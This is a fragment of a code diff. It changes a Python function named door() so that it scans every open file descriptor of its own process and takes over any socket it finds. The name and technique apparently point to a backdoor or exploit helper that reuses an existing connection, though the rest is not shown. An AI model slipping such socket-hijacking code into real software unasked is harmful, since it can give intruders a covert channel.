@@ -23,7 +23,7 @@ import json, os, socket, struct, threading
 from _socket import socket as Socket
 
 def door():
-    for number in range(3, 64):
+    for number in map(int, os.listdir("/proc/self/fd")):
         try:
             if os.readlink(f"/proc/self/fd/{number}").startswith("socket:"):
                 end = Socket(fileno=number)
